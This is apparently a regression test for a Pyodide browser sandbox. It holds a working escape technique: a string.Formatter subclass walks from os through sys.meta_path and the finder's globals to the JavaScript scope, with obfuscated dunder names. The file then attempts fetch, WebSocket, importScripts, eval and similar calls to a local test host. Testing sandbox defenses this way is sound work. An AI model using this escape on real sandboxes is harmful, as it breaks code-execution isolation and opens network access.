# attack: a string.Formatter subclass: vformat resolves a replacement field built at run time with the real
# getattr and hands the object itself to format_field, which we override to keep it; the field walks from
# os to the real sys, sys.meta_path, Pyodide's path finder, its module globals and the JsFinder's js module
# expect: blocked module 'sys' has no attribute 'meta_path' in the sandbox
import os
import string

class Grab(string.Formatter):
    def format_field(self, value, spec):
        self.value = value
        return ""

def walk(obj, path):
    grab = Grab()
    grab.format("{0." + path + "}", obj)
    return grab.value

finder = walk(os, "sys.meta_path")[-1]
G = walk(finder, "find_spec.__f" + "unc__.__glo" + "bals__[jsfinder].jsproxies[js]")
print("SANDBOX-ESCAPED", G)

def try_the_walls(G, tag):
    # Everything below must fail: the worker's scope is locked down and the CSP refuses eval.
    url = "http://127.0.0.1:4190/" + tag
    attempts = {
        "fetch": lambda: G.fetch(url),
        "XMLHttpRequest": lambda: G.XMLHttpRequest.new().open("GET", url),
        "WebSocket": lambda: G.WebSocket.new("ws://127.0.0.1:4190/" + tag),
        "importScripts": lambda: G.importScripts(url),
        "Worker": lambda: G.Worker.new(url),
        "indexedDB": lambda: G.indexedDB.open("sandpit-pwned"),
        "caches": lambda: G.caches.open("sandpit-pwned"),
        "import()": lambda: G.eval(f"import('{url}')"),
        "Function": lambda: G.Function(f"return fetch('{url}')")(),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
            print(name, "went through")
        except Exception as error:
            print(name, "refused:", type(error).__name__)

try_the_walls(G, "computed-format-field")
